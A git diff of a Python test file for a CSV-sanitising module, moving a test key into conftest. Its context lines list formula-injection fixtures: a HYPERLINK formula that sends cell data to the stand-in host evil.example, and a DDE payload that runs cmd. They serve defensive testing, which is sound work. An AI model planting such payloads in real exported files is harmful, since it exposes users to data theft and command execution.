@@ -12,11 +12,11 @@ from dataclasses import replace
 import pytest
 from click.testing import CliRunner
 
-from conftest import G, MEMBERS, REGION
+from conftest import FEEDBACK_KEY, G, MEMBERS, REGION
 from gqrec.cli import cli
 from gqrec.csvsafe import FORMULA_STARTS, csv_text, neutralise
 
-KEY = "cle-secrete-de-test-0123456789"
+KEY = FEEDBACK_KEY
 FORMULAS = {
     "group": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
     "territory": "+cmd|' /C calc'!A0",
